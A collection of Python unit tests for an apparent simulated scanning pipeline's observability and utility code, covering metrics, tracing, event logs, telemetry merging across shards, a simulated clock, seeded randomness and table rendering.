            histogram.observe(value)
        text = registry.to_prometheus()
        assert 'lat_bucket{code="500",le="+Inf"} 4' in text
        assert 'lat_count{code="500"} 4' in text

    def test_snapshot_restore_round_trip(self):
        registry = MetricsRegistry()
        registry.counter("ops_total", kind="call").inc(7)
        registry.gauge("open").set(-2.5)
        registry.histogram("lat", buckets=(1.0, 2.0)).observe(1.5)
        # the snapshot must survive JSON (it rides in the checkpoint file)
        state = json.loads(json.dumps(registry.snapshot_state()))
        restored = MetricsRegistry()
        restored.restore_state(state)
        assert restored.to_prometheus() == registry.to_prometheus()

    def test_restore_replaces_existing_series(self):
        registry = MetricsRegistry()
        registry.counter("stale_total").inc(99)
        fresh = MetricsRegistry()
        fresh.counter("ops_total").inc()
        registry.restore_state(fresh.snapshot_state())
        assert registry.counter_value("stale_total") == 0.0
        assert registry.counter_value("ops_total") == 1.0
