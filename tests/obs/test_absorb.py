"""Unit tests for the shard-fold absorb API across the three pillars.

``absorb`` is the sanctioned merge path the parallel engine uses to fold
shard-local telemetry into the parent handle; these tests pin the
pillar-level contracts it relies on (span-id rebasing, bucket-wise
histogram addition, event concatenation).
"""

import pytest

from repro.obs.events import EventLog
from repro.obs.metrics import MetricsRegistry
from repro.obs.telemetry import Telemetry
from repro.obs.trace import Tracer
from repro.util.clock import SimClock


class TestTracerAbsorb:
    def test_rebases_span_and_parent_ids(self):
        parent = Tracer()
        with parent.span("sweep"):
            pass
        shard = Tracer()
        with shard.span("outer"):
            with shard.span("inner"):
                pass
        parent.absorb(shard)
        names = [s.name for s in parent.finished]
        assert names == ["sweep", "inner", "outer"]
        ids = {s.name: s.span_id for s in parent.finished}
        assert len(set(ids.values())) == 3  # no collisions after rebase
        inner = next(s for s in parent.finished if s.name == "inner")
        outer = next(s for s in parent.finished if s.name == "outer")
        assert inner.parent_id == outer.span_id  # links rebased together

    def test_absorb_order_determines_ids(self):
        def shard(name):
            tracer = Tracer()
            with tracer.span(name):
                pass
            return tracer

        a = Tracer()
        a.absorb(shard("one"))
        a.absorb(shard("two"))
        b = Tracer()
        b.absorb(shard("one"))
        b.absorb(shard("two"))
        assert [s.to_dict() for s in a.finished] == [
            s.to_dict() for s in b.finished
        ]

    def test_refuses_open_spans(self):
        parent, shard = Tracer(), Tracer()
        shard.start("still-open")
        with pytest.raises(ValueError):
            parent.absorb(shard)


class TestMetricsAbsorb:
    def test_counters_and_gauges_fold(self):
        parent, shard = MetricsRegistry(), MetricsRegistry()
        parent.counter("probes", stage="masscan").inc(3)
        shard.counter("probes", stage="masscan").inc(4)
        shard.counter("probes", stage="tsunami").inc(1)
        shard.gauge("depth").set(5)
        parent.absorb(shard)
        assert parent.counter_value("probes", stage="masscan") == 7
        assert parent.counter_value("probes", stage="tsunami") == 1
        assert parent.gauge("depth").value == 5

    def test_histograms_fold_bucket_wise(self):
        parent, shard = MetricsRegistry(), MetricsRegistry()
        for value in (0.1, 0.5):
            parent.histogram("latency").observe(value)
        for value in (0.5, 2.0):
            shard.histogram("latency").observe(value)
        parent.absorb(shard)
        merged = parent.histogram("latency")
        assert merged.count == 4
        assert merged.total == pytest.approx(3.1)

    def test_histogram_bounds_mismatch_is_an_error(self):
        parent, shard = MetricsRegistry(), MetricsRegistry()
        parent.histogram("latency", buckets=(1.0, 2.0)).observe(0.5)
        shard.histogram("latency", buckets=(1.0, 5.0)).observe(0.5)
        with pytest.raises(ValueError):
            parent.absorb(shard)


class TestEventLogAbsorb:
    def test_events_concatenate_and_suppression_carries(self):
        parent = EventLog(min_level="info")
        shard = EventLog(min_level="info")
        parent.info("parallel", "sweep-start")
        shard.info("masscan", "batch")
        shard.debug("masscan", "noise")  # suppressed below min_level
        parent.absorb(shard)
        assert [e.name for e in parent] == ["sweep-start", "batch"]
        assert parent.suppressed == shard.suppressed


class TestTelemetryAbsorb:
    def test_absorb_state_round_trips_a_snapshot(self):
        """The engine folds *serialized* shard telemetry (the checkpoint
        form); absorbing a snapshot must equal absorbing the live handle."""
        def shard():
            clock = SimClock()
            telemetry = Telemetry(clock=clock)
            telemetry.events.info("masscan", "batch", index=0)
            with telemetry.tracer.span("stage:masscan"):
                clock.advance(1.5)
            telemetry.funnel("masscan", 10, 4)
            return telemetry

        live, serialized = Telemetry(), Telemetry()
        live.absorb(shard())
        serialized.absorb_state(shard().snapshot_state())
        assert serialized.export_jsonl() == live.export_jsonl()
        assert (
            serialized.summary().to_dict() == live.summary().to_dict()
        )
