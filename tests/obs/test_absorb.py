"""Unit tests for the shard-fold absorb API across the three pillars.

``absorb`` is the sanctioned merge path the parallel engine uses to fold
shard-local telemetry into the parent handle; these tests pin the
pillar-level contracts it relies on (span-id rebasing, bucket-wise
histogram addition, event concatenation).
"""

import pytest

from repro.obs.events import EventLog
from repro.obs.metrics import MetricsRegistry
from repro.obs.telemetry import Telemetry
from repro.obs.trace import Tracer
from repro.util.clock import SimClock


class TestTracerAbsorb:
    def test_rebases_span_and_parent_ids(self):
        parent = Tracer()
        with parent.span("sweep"):
            pass
        shard = Tracer()
        with shard.span("outer"):
            with shard.span("inner"):
                pass
        parent.absorb(shard)
        names = [s.name for s in parent.finished]
        assert names == ["sweep", "inner", "outer"]
        ids = {s.name: s.span_id for s in parent.finished}
        assert len(set(ids.values())) == 3  # no collisions after rebase
        inner = next(s for s in parent.finished if s.name == "inner")
        outer = next(s for s in parent.finished if s.name == "outer")
        assert inner.parent_id == outer.span_id  # links rebased together

    def test_absorb_order_determines_ids(self):
        def shard(name):
            tracer = Tracer()
            with tracer.span(name):
                pass
            return tracer

        a = Tracer()
        a.absorb(shard("one"))
        a.absorb(shard("two"))
        b = Tracer()
        b.absorb(shard("one"))
        b.absorb(shard("two"))
        assert [s.to_dict() for s in a.finished] == [
            s.to_dict() for s in b.finished
        ]

    def test_refuses_open_spans(self):
        parent, shard = Tracer(), Tracer()
        shard.start("still-open")
        with pytest.raises(ValueError):
            parent.absorb(shard)


class TestMetricsAbsorb:
    def test_counters_and_gauges_fold(self):
        parent, shard = MetricsRegistry(), MetricsRegistry()
        parent.counter("probes", stage="masscan").inc(3)
        shard.counter("probes", stage="masscan").inc(4)
        shard.counter("probes", stage="tsunami").inc(1)
        shard.gauge("depth").set(5)
        parent.absorb(shard)
        assert parent.counter_value("probes", stage="masscan") == 7
        assert parent.counter_value("probes", stage="tsunami") == 1
        assert parent.gauge("depth").value == 5

    def test_histograms_fold_bucket_wise(self):
        parent, shard = MetricsRegistry(), MetricsRegistry()
        for value in (0.1, 0.5):
            parent.histogram("latency").observe(value)
        for value in (0.5, 2.0):
            shard.histogram("latency").observe(value)
        parent.absorb(shard)
        merged = parent.histogram("latency")
        assert merged.count == 4
        assert merged.total == pytest.approx(3.1)

    def test_histogram_bounds_mismatch_is_an_error(self):
        parent, shard = MetricsRegistry(), MetricsRegistry()
        parent.histogram("latency", buckets=(1.0, 2.0)).observe(0.5)
        shard.histogram("latency", buckets=(1.0, 5.0)).observe(0.5)
        with pytest.raises(ValueError):
            parent.absorb(shard)


class TestEventLogAbsorb:
    def test_events_concatenate_and_suppression_carries(self):
        parent = EventLog(min_level="info")
        shard = EventLog(min_level="info")
        parent.info("parallel", "sweep-start")
        shard.info("masscan", "batch")
        shard.debug("masscan", "noise")  # suppressed below min_level
        parent.absorb(shard)
        assert [e.name for e in parent] == ["sweep-start", "batch"]
        assert parent.suppressed == shard.suppressed


class TestTelemetryAbsorb:
    def test_absorb_state_round_trips_a_snapshot(self):
        """The engine folds *serialized* shard telemetry (the checkpoint
        form); absorbing a snapshot must equal absorbing the live handle."""
        def shard():
            clock = SimClock()
            telemetry = Telemetry(clock=clock)
            telemetry.events.info("masscan", "batch", index=0)
            with telemetry.tracer.span("stage:masscan"):
                clock.advance(1.5)
            telemetry.funnel("masscan", 10, 4)
            return telemetry

        live, serialized = Telemetry(), Telemetry()
        live.absorb(shard())
        serialized.absorb_state(shard().snapshot_state())
        assert serialized.export_jsonl() == live.export_jsonl()
        assert (
            serialized.summary().to_dict() == live.summary().to_dict()
        )


class TestFoldEdgeCases:
    """Cross-process fold corners: colliding span ids, empty shards,
    top-K ties, and late payloads after the fold."""

    def test_identical_span_ids_from_two_shards_never_collide(self):
        """Process workers all number their spans from 1; absorbing two
        shards with byte-identical id ranges must rebase both."""
        def shard():
            tracer = Tracer()
            with tracer.span("outer"):
                with tracer.span("inner"):
                    pass
            return tracer.snapshot_state()

        state = shard()
        parent = Tracer()
        with parent.span("sweep"):
            pass
        for _ in range(2):  # same serialized ids absorbed twice
            twin = Tracer()
            twin.restore_state(state)
            parent.absorb(twin)
        ids = [span.span_id for span in parent.finished]
        assert len(ids) == len(set(ids)) == 5
        # parent links still point inside their own shard after rebasing
        outers = [s for s in parent.finished if s.name == "outer"]
        inners = [s for s in parent.finished if s.name == "inner"]
        assert {i.parent_id for i in inners} == {o.span_id for o in outers}

    def test_spans_opened_after_an_absorb_stay_collision_free(self):
        parent = Tracer()
        shard = Tracer()
        with shard.span("shard-span"):
            pass
        parent.absorb(shard)
        with parent.span("late-parent-span"):
            pass
        ids = [span.span_id for span in parent.finished]
        assert len(ids) == len(set(ids))

    def test_absorbing_an_empty_shard_changes_nothing(self):
        """An abandoned shard folds a stub payload; an empty telemetry
        state must be a no-op on every pillar."""
        parent = Telemetry()
        parent.events.info("parallel", "sweep-start")
        parent.funnel("masscan", 4, 2)
        before = (parent.export_jsonl(), parent.summary().to_dict())
        parent.absorb_state(Telemetry().snapshot_state())
        assert (parent.export_jsonl(), parent.summary().to_dict()) == before

    def test_flight_top_k_ties_break_identically_across_fold_orders(self):
        """Records tied on duration at the capacity boundary must keep
        the same winners whatever order shards are absorbed in."""
        from repro.obs.flight import FlightRecorder

        def record(recorder, host, start, duration):
            class Span:
                pass

            span = Span()
            span.name = "probe:http"
            span.start = start
            span.duration = duration
            span.attrs = {"host": host, "port": 80}
            recorder.record(span, events=(), exchange_mark=0)

        def shard(hosts, duration):
            recorder = FlightRecorder(capacity=2)
            for index, host in enumerate(hosts):
                record(recorder, host, float(index), duration)
            return recorder

        # four records, all tied at duration=5.0: the capacity-2 cut
        # lands inside the tie and must resolve by (start, host) alone
        a = shard(("203.0.113.1", "203.0.113.2"), 5.0)
        b = shard(("198.51.100.1", "198.51.100.2"), 5.0)

        forward = FlightRecorder(capacity=2)
        forward.absorb(shard(("203.0.113.1", "203.0.113.2"), 5.0))
        forward.absorb(shard(("198.51.100.1", "198.51.100.2"), 5.0))
        backward = FlightRecorder(capacity=2)
        backward.absorb(b)
        backward.absorb(a)
        assert forward.to_dict() == backward.to_dict()
        assert forward.probes_seen == backward.probes_seen == 4

    def test_console_ignores_payload_arriving_after_the_fold(self):
        """Double-count protection: once finish_sweep has run, the parent
        handle holds every shard's counters, so a straggler payload (a
        pool result delivered late) must not re-enter the aggregate."""
        from repro.obs.console import ConsoleHub

        def payload():
            telemetry = Telemetry()
            telemetry.funnel("masscan", 10, 6)
            return {"telemetry": telemetry.snapshot_state(), "addresses": 10}

        parent = Telemetry()
        hub = ConsoleHub()
        hub.attach_telemetry(parent)
        hub.begin_sweep([{"index": 0, "addresses": 10}])
        hub.note_shard_done(0, payload())
        # mid-flight: the unfolded payload counts exactly once
        assert hub.funnel()["stages"]["masscan"]["in"] == 10.0

        parent.absorb_state(payload()["telemetry"])  # the canonical fold
        from repro.core.pipeline import ScanReport

        hub.finish_sweep(ScanReport())
        assert hub.funnel()["stages"]["masscan"]["in"] == 10.0
        # the straggler: same shard's payload delivered again, post-fold
        hub.note_shard_done(0, payload())
        assert hub.funnel()["stages"]["masscan"]["in"] == 10.0
