"""Tests for the structured event log."""

import json

import pytest

from repro.net.ipv4 import IPv4Address
from repro.obs.events import Event, EventLog
from repro.util.clock import SimClock


class TestEvent:
    def test_to_dict_omits_empty_optionals(self):
        event = Event(ts=1.0, level="info", stage="pipeline", name="x")
        payload = event.to_dict()
        assert "host" not in payload
        assert "fields" not in payload

    def test_round_trip(self):
        event = Event(
            ts=2.5, level="warn", stage="retry", name="circuit-open",
            host="1.2.3.4", fields=(("cooldown", 60.0), ("scope", "host")),
        )
        assert Event.from_dict(event.to_dict()) == event

    def test_to_json_is_stable(self):
        event = Event(
            ts=0.0, level="info", stage="s", name="n",
            fields=(("a", 1), ("b", 2)),
        )
        assert event.to_json() == event.to_json()
        assert json.loads(event.to_json())["event"] == "n"


class TestEventLog:
    def test_clock_stamps_events(self):
        clock = SimClock()
        log = EventLog(clock=clock)
        clock.advance(42)
        event = log.info("pipeline", "sweep-start")
        assert event.ts == 42.0

    def test_no_clock_means_zero_timestamps(self):
        log = EventLog()
        assert log.info("s", "n").ts == 0.0

    def test_level_filter_suppresses_and_counts(self):
        log = EventLog(min_level="info")
        assert log.debug("chaos", "fault") is None
        assert len(log) == 0
        assert log.suppressed == 1
        assert log.info("pipeline", "batch-complete") is not None
        assert len(log) == 1

    def test_debug_level_keeps_everything(self):
        log = EventLog(min_level="debug")
        log.debug("chaos", "fault")
        assert len(log) == 1
        assert log.suppressed == 0

    def test_unknown_level_rejected(self):
        with pytest.raises(ValueError):
            EventLog(min_level="verbose")
        with pytest.raises(ValueError):
            EventLog().emit("loud", "s", "n")

    def test_host_is_stringified(self):
        log = EventLog()
        event = log.info("s", "n", host=IPv4Address.parse("10.0.0.1"))
        assert event.host == "10.0.0.1"

    def test_select(self):
        log = EventLog()
        log.info("pipeline", "batch-complete")
        log.warn("retry", "circuit-open")
        log.info("pipeline", "sweep-complete")
        assert len(log.select(stage="pipeline")) == 2
        assert len(log.select(name="circuit-open")) == 1
        assert len(log.select(level="warn")) == 1
        assert len(log.select(stage="pipeline", name="sweep-complete")) == 1

    def test_to_jsonl(self):
        log = EventLog()
        assert log.to_jsonl() == ""
        log.info("s", "a")
        log.info("s", "b")
        text = log.to_jsonl()
        assert text.endswith("\n")
        assert len(text.strip().split("\n")) == 2

    def test_snapshot_restore_round_trip(self):
        log = EventLog(min_level="info")
        log.debug("chaos", "fault")  # suppressed
        log.info("pipeline", "batch-complete", index=0)
        state = json.loads(json.dumps(log.snapshot_state()))
        other = EventLog()
        other.restore_state(state)
        assert other.suppressed == 1
        assert other.to_jsonl() == log.to_jsonl()
