"""Tests for the Telemetry handle and TelemetrySummary."""

import json

import pytest

from repro.obs.telemetry import FUNNEL_STAGES, Telemetry, TelemetrySummary
from repro.util.clock import SimClock


class TestFunnel:
    def test_invariant_in_equals_out_plus_dropped(self):
        telemetry = Telemetry()
        telemetry.funnel("masscan", 100, 40)
        telemetry.funnel("masscan", 50, 10)
        value = telemetry.metrics.counter_value
        hosts_in = value("funnel_hosts_total", stage="masscan", flow="in")
        out = value("funnel_hosts_total", stage="masscan", flow="out")
        dropped = value("funnel_hosts_total", stage="masscan", flow="dropped")
        assert (hosts_in, out, dropped) == (150, 50, 100)
        assert hosts_in == out + dropped

    def test_stage_cannot_emit_more_than_it_received(self):
        with pytest.raises(ValueError):
            Telemetry().funnel("prefilter", 3, 4)

    def test_funnel_table_lists_all_stages(self):
        telemetry = Telemetry()
        telemetry.funnel("masscan", 10, 4)
        rendered = telemetry.funnel_table().render()
        for stage in FUNNEL_STAGES:
            assert stage in rendered
        assert "10" in rendered and "4" in rendered and "6" in rendered


class TestSummary:
    def test_summary_reflects_all_three_pillars(self):
        telemetry = Telemetry()
        telemetry.metrics.counter("x_total", k="v").inc(2)
        telemetry.events.info("s", "n")
        with telemetry.tracer.span("stage"):
            pass
        summary = telemetry.summary()
        assert summary.counter("x_total", k="v") == 2
        assert summary.events == 1
        assert summary.spans == 1

    def test_merge_and_copy(self):
        a = TelemetrySummary({"x": 1.0}, events=2, spans=1)
        b = TelemetrySummary({"x": 2.0, "y": 5.0}, events=1, spans=3)
        c = a.copy()
        c.merge(b)
        assert c.counters == {"x": 3.0, "y": 5.0}
        assert (c.events, c.spans) == (3, 4)
        assert a.counters == {"x": 1.0}  # copy detached

    def test_dict_round_trip(self):
        summary = TelemetrySummary({"b": 2.0, "a": 1.0}, events=4, spans=2)
        payload = json.loads(json.dumps(summary.to_dict()))
        assert list(payload["counters"]) == ["a", "b"]  # sorted
        restored = TelemetrySummary.from_dict(payload)
        assert restored.to_dict() == summary.to_dict()

    def test_from_empty_dict(self):
        summary = TelemetrySummary.from_dict({})
        assert summary.counters == {}
        assert (summary.events, summary.spans) == (0, 0)

    def test_funnel_accessor(self):
        telemetry = Telemetry()
        telemetry.funnel("tsunami", 8, 3)
        summary = telemetry.summary()
        assert summary.funnel("tsunami", "in") == 8
        assert summary.funnel("tsunami", "out") == 3
        assert summary.funnel("tsunami", "dropped") == 5


class TestExports:
    def test_jsonl_lists_events_then_spans(self):
        telemetry = Telemetry()
        telemetry.events.info("pipeline", "sweep-start")
        with telemetry.tracer.span("sweep"):
            pass
        lines = telemetry.export_jsonl().strip().split("\n")
        kinds = [json.loads(line)["kind"] for line in lines]
        assert kinds == ["event", "span"]

    def test_jsonl_is_deterministic(self):
        def build():
            clock = SimClock()
            telemetry = Telemetry(clock=clock)
            telemetry.events.info("s", "n", host="1.2.3.4", b=2, a=1)
            clock.advance(3)
            with telemetry.tracer.span("stage", z=1):
                clock.advance(1)
            return telemetry.export_jsonl()

        assert build() == build()

    def test_export_dispatch(self):
        telemetry = Telemetry()
        telemetry.metrics.counter("x_total").inc()
        assert telemetry.export("prometheus") == telemetry.export_prometheus()
        assert telemetry.export("jsonl") == telemetry.export_jsonl()
        assert telemetry.export("funnel").startswith("Stage funnel")
        with pytest.raises(ValueError):
            telemetry.export("xml")

    def test_snapshot_restore_round_trips_everything(self):
        clock = SimClock()
        telemetry = Telemetry(clock=clock)
        telemetry.events.info("s", "n")
        telemetry.metrics.counter("x_total").inc()
        telemetry.metrics.histogram("lat").observe(0.3)
        open_span = telemetry.tracer.start("sweep")
        state = json.loads(json.dumps(telemetry.snapshot_state()))

        restored = Telemetry(clock=clock)
        restored.restore_state(state)
        assert restored.tracer.active.name == "sweep"
        restored.tracer.end(restored.tracer.active)
        telemetry.tracer.end(open_span)
        assert restored.export_jsonl() == telemetry.export_jsonl()
        assert restored.export_prometheus() == telemetry.export_prometheus()


class TestFunnelQuarantine:
    def test_quarantined_flow_extends_the_invariant(self):
        """in = out + dropped + quarantined, per stage."""
        telemetry = Telemetry()
        telemetry.funnel("prefilter", 100, 60, quarantined=15)
        value = telemetry.metrics.counter_value
        hosts_in = value("funnel_hosts_total", stage="prefilter", flow="in")
        out = value("funnel_hosts_total", stage="prefilter", flow="out")
        dropped = value("funnel_hosts_total", stage="prefilter", flow="dropped")
        quarantined = value(
            "funnel_hosts_total", stage="prefilter", flow="quarantined"
        )
        assert (hosts_in, out, dropped, quarantined) == (100, 60, 25, 15)
        assert hosts_in == out + dropped + quarantined

    def test_out_plus_quarantined_cannot_exceed_in(self):
        with pytest.raises(ValueError):
            Telemetry().funnel("tsunami", 10, 8, quarantined=3)

    def test_zero_quarantine_exports_no_quarantined_series(self):
        """Sweeps without a supervisor must export exactly the series
        they always did (byte-compat with pre-supervisor telemetry)."""
        plain = Telemetry()
        plain.funnel("masscan", 10, 4)
        names = {
            key for key in plain.metrics.snapshot_state()["counters"]
            if "quarantined" in key
        }
        assert names == set()

    def test_funnel_table_shows_quarantined_column(self):
        telemetry = Telemetry()
        telemetry.funnel("masscan", 10, 4, quarantined=2)
        rendered = telemetry.funnel_table().render()
        assert "quarantined" in rendered
        assert "2" in rendered
