"""Tests for the span tracer."""

import json

import pytest

from repro.obs.trace import Tracer
from repro.util.clock import SimClock


class TestTracer:
    def test_nesting_and_parents(self):
        tracer = Tracer()
        sweep = tracer.start("sweep")
        batch = tracer.start("batch")
        assert batch.parent_id == sweep.span_id
        assert tracer.depth == 2
        tracer.end(batch)
        tracer.end(sweep)
        assert tracer.depth == 0
        assert [s.name for s in tracer.finished] == ["batch", "sweep"]

    def test_durations_come_from_the_clock(self):
        clock = SimClock()
        tracer = Tracer(clock=clock)
        span = tracer.start("stage")
        clock.advance(7)
        tracer.end(span)
        assert span.duration == 7.0

    def test_open_span_has_no_duration(self):
        tracer = Tracer()
        span = tracer.start("open")
        with pytest.raises(ValueError):
            span.duration

    def test_out_of_order_end_rejected(self):
        tracer = Tracer()
        outer = tracer.start("outer")
        tracer.start("inner")
        with pytest.raises(ValueError):
            tracer.end(outer)
        # the stack is intact after the failed close
        assert tracer.depth == 2

    def test_end_with_nothing_open_rejected(self):
        with pytest.raises(ValueError):
            Tracer().end()

    def test_context_manager(self):
        tracer = Tracer()
        with tracer.span("stage", hosts=3) as span:
            assert tracer.active is span
        assert tracer.depth == 0
        assert span.attrs == {"hosts": 3}

    def test_context_manager_unwinds_abandoned_children(self):
        """A crash mid-span must not be masked by a nesting violation."""
        tracer = Tracer()

        class Crash(BaseException):
            pass

        with pytest.raises(Crash):
            with tracer.span("stage"):
                tracer.start("probe")  # abandoned by the crash
                raise Crash()
        assert tracer.depth == 0
        assert [s.name for s in tracer.finished] == ["probe", "stage"]

    def test_queries(self):
        tracer = Tracer()
        sweep = tracer.start("sweep")
        for index in range(2):
            with tracer.span("batch", index=index):
                pass
        tracer.end(sweep)
        batches = tracer.spans_named("batch")
        assert len(batches) == 2
        assert tracer.children_of(sweep) == batches

    def test_snapshot_includes_open_stack(self):
        clock = SimClock()
        tracer = Tracer(clock=clock)
        sweep = tracer.start("sweep")
        with tracer.span("batch"):
            clock.advance(3)
        state = json.loads(json.dumps(tracer.snapshot_state()))

        restored = Tracer(clock=clock)
        restored.restore_state(state)
        assert restored.depth == 1
        assert restored.active.name == "sweep"
        assert restored.active.start == sweep.start
        seen_ids = {s.span_id for s in restored.finished} | {
            restored.active.span_id
        }
        # ids continue without collisions after a resume
        fresh = restored.start("batch")
        assert fresh.span_id not in seen_ids
