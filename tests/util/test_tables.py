"""Tests for the table renderer."""

import pytest

from repro.util.tables import Table, render_table


class TestTable:
    def test_add_and_render(self):
        table = Table("T", ("A", "B"))
        table.add_row(1, "x")
        text = table.render()
        assert "T" in text
        assert "A" in text and "B" in text
        assert "x" in text

    def test_wrong_cell_count_rejected(self):
        table = Table("T", ("A", "B"))
        with pytest.raises(ValueError):
            table.add_row(1)

    def test_column_extraction(self):
        table = Table("T", ("A", "B"))
        table.add_row(1, "x")
        table.add_row(2, "y")
        assert table.column("B") == ["x", "y"]

    def test_as_dicts(self):
        table = Table("T", ("A", "B"))
        table.add_row(1, "x")
        assert table.as_dicts() == [{"A": 1, "B": "x"}]

    def test_thousands_separator(self):
        table = Table("T", ("N",))
        table.add_row(1234567)
        assert "1,234,567" in table.render()

    def test_float_formatting(self):
        assert "2.5" in render_table("T", ("X",), [(2.5,)])

    def test_column_alignment(self):
        table = Table("T", ("Name", "Val"))
        table.add_row("short", 1)
        table.add_row("a-much-longer-name", 2)
        lines = table.render().splitlines()
        header = next(line for line in lines if "Name" in line)
        row = next(line for line in lines if "short" in line)
        assert header.index("Val") == row.index("1")
