"""Tests for seeded randomness."""

import random

import pytest

from repro.util.rand import (
    SeededStreams,
    exponential_interarrival,
    sample_zipf,
    shuffled,
    stable_hash,
    weighted_choice,
)


class TestStableHash:
    def test_deterministic(self):
        assert stable_hash("a", 1) == stable_hash("a", 1)

    def test_distinct_inputs_differ(self):
        assert stable_hash("a") != stable_hash("b")

    def test_order_matters(self):
        assert stable_hash("a", "b") != stable_hash("b", "a")

    def test_no_concatenation_collision(self):
        # ("ab", "c") must not collide with ("a", "bc").
        assert stable_hash("ab", "c") != stable_hash("a", "bc")


class TestSeededStreams:
    def test_same_name_same_stream(self):
        streams = SeededStreams(1)
        assert streams.stream("x") is streams.stream("x")

    def test_streams_are_independent(self):
        a = SeededStreams(1)
        b = SeededStreams(1)
        # Drawing from one stream must not perturb another.
        a.stream("noise").random()
        assert a.stream("signal").random() == b.stream("signal").random()

    def test_different_master_seeds_differ(self):
        assert (
            SeededStreams(1).stream("x").random()
            != SeededStreams(2).stream("x").random()
        )

    def test_fork_is_independent(self):
        parent = SeededStreams(1)
        child = parent.fork("child")
        assert parent.stream("x").random() != child.stream("x").random()


class TestWeightedChoice:
    def test_single_key(self):
        assert weighted_choice(random.Random(0), {"a": 1.0}) == "a"

    def test_empty_rejected(self):
        with pytest.raises(ValueError):
            weighted_choice(random.Random(0), {})

    def test_zero_weights_rejected(self):
        with pytest.raises(ValueError):
            weighted_choice(random.Random(0), {"a": 0.0})

    def test_respects_weights_statistically(self):
        rng = random.Random(42)
        counts = {"heavy": 0, "light": 0}
        for _ in range(2000):
            counts[weighted_choice(rng, {"heavy": 9.0, "light": 1.0})] += 1
        assert counts["heavy"] > 5 * counts["light"]


class TestZipf:
    def test_in_range(self):
        rng = random.Random(0)
        for _ in range(100):
            assert 0 <= sample_zipf(rng, 10) < 10

    def test_head_heavier_than_tail(self):
        rng = random.Random(0)
        draws = [sample_zipf(rng, 50) for _ in range(5000)]
        assert draws.count(0) > draws.count(49) * 3

    def test_invalid_n(self):
        with pytest.raises(ValueError):
            sample_zipf(random.Random(0), 0)


def test_exponential_interarrival_mean():
    rng = random.Random(7)
    draws = [exponential_interarrival(rng, 100.0) for _ in range(5000)]
    assert 90 < sum(draws) / len(draws) < 110


def test_exponential_requires_positive_mean():
    with pytest.raises(ValueError):
        exponential_interarrival(random.Random(0), 0)


def test_shuffled_returns_new_permutation():
    items = list(range(20))
    result = shuffled(random.Random(3), items)
    assert sorted(result) == items
    assert items == list(range(20))  # input untouched
