"""Tests for the simulated clock."""

import pytest

from repro.util.clock import DAY, HOUR, Duration, SimClock, format_offset


class TestDuration:
    def test_constructors_agree(self):
        assert Duration.hours(24) == Duration.days(1)
        assert Duration.weeks(1) == Duration.days(7)

    def test_accessors(self):
        d = Duration.hours(36)
        assert d.in_hours == 36
        assert d.in_days == 1.5

    def test_arithmetic(self):
        assert (Duration.hours(1) + Duration.hours(2)).in_hours == 3
        assert (Duration.hours(2) * 3).in_hours == 6

    def test_ordering(self):
        assert Duration.hours(1) < Duration.days(1)

    def test_str_picks_sensible_unit(self):
        assert str(Duration.days(2)) == "2.0d"
        assert str(Duration.hours(3)) == "3.0h"
        assert str(Duration(90)) == "1.5m"
        assert str(Duration(5)) == "5.0s"


class TestSimClock:
    def test_starts_at_zero(self):
        assert SimClock().now == 0.0

    def test_advance_moves_time(self):
        clock = SimClock()
        clock.advance(10)
        assert clock.now == 10

    def test_scheduled_callback_fires_in_order(self):
        clock = SimClock()
        fired = []
        clock.schedule(5, lambda: fired.append("b"))
        clock.schedule(1, lambda: fired.append("a"))
        clock.schedule(9, lambda: fired.append("c"))
        clock.advance(10)
        assert fired == ["a", "b", "c"]

    def test_ties_fire_in_scheduling_order(self):
        clock = SimClock()
        fired = []
        for name in "abc":
            clock.schedule(3, lambda name=name: fired.append(name))
        clock.advance(3)
        assert fired == ["a", "b", "c"]

    def test_callback_sees_correct_now(self):
        clock = SimClock()
        seen = []
        clock.schedule(7, lambda: seen.append(clock.now))
        clock.advance(10)
        assert seen == [7]

    def test_callbacks_can_schedule_more(self):
        clock = SimClock()
        fired = []

        def tick():
            fired.append(clock.now)
            if clock.now < 5:
                clock.schedule(1, tick)

        clock.schedule(1, tick)
        clock.advance(10)
        assert fired == [1, 2, 3, 4, 5]

    def test_event_after_deadline_does_not_fire(self):
        clock = SimClock()
        fired = []
        clock.schedule(10, lambda: fired.append(1))
        clock.advance(5)
        assert fired == []
        assert clock.pending == 1

    def test_cancel(self):
        clock = SimClock()
        fired = []
        event = clock.schedule(1, lambda: fired.append(1))
        clock.cancel(event)
        clock.advance(5)
        assert fired == []

    def test_schedule_at(self):
        clock = SimClock()
        clock.advance(5)
        fired = []
        clock.schedule_at(8, lambda: fired.append(clock.now))
        clock.advance(10)
        assert fired == [8]

    def test_negative_delay_rejected(self):
        with pytest.raises(ValueError):
            SimClock().schedule(-1, lambda: None)

    def test_backwards_run_rejected(self):
        clock = SimClock()
        clock.advance(10)
        with pytest.raises(ValueError):
            clock.run_until(5)

    def test_run_all(self):
        clock = SimClock()
        fired = []
        clock.schedule(100, lambda: fired.append(1))
        clock.run_all()
        assert fired == [1]
        assert clock.now == 100

    # -- edge cases ----------------------------------------------------------

    def test_cancel_already_fired_event_is_harmless(self):
        clock = SimClock()
        fired = []
        event = clock.schedule(1, lambda: fired.append(1))
        clock.advance(5)
        assert fired == [1]
        clock.cancel(event)  # no error, no retroactive effect
        clock.advance(5)
        assert fired == [1]

    def test_cancelled_event_does_not_count_as_pending(self):
        clock = SimClock()
        event = clock.schedule(1, lambda: None)
        clock.schedule(2, lambda: None)
        assert clock.pending == 2
        clock.cancel(event)
        assert clock.pending == 1

    def test_schedule_at_in_the_past_rejected(self):
        clock = SimClock()
        clock.advance(10)
        with pytest.raises(ValueError):
            clock.schedule_at(5, lambda: None)

    def test_schedule_at_now_fires(self):
        clock = SimClock()
        clock.advance(10)
        fired = []
        clock.schedule_at(10, lambda: fired.append(clock.now))
        clock.advance(0)
        assert fired == [10]

    def test_interleaved_run_until_preserves_global_order(self):
        clock = SimClock()
        fired = []
        clock.schedule(2, lambda: fired.append("a"))
        clock.schedule(6, lambda: fired.append("c"))
        clock.run_until(4)
        assert clock.now == 4
        # scheduled after the first run, but due before "c"
        clock.schedule(1, lambda: fired.append("b"))
        clock.run_until(10)
        assert fired == ["a", "b", "c"]

    def test_run_until_deadline_is_inclusive(self):
        clock = SimClock()
        fired = []
        clock.schedule(5, lambda: fired.append(1))
        clock.run_until(5)
        assert fired == [1]


def test_format_offset():
    assert format_offset(0) == "d00 00:00"
    assert format_offset(3 * DAY + 7 * HOUR + 30 * 60) == "d03 07:30"


def test_format_offset_boundaries():
    # one second short of the next minute/hour/day never rounds up
    assert format_offset(59.999) == "d00 00:00"
    assert format_offset(HOUR - 1) == "d00 00:59"
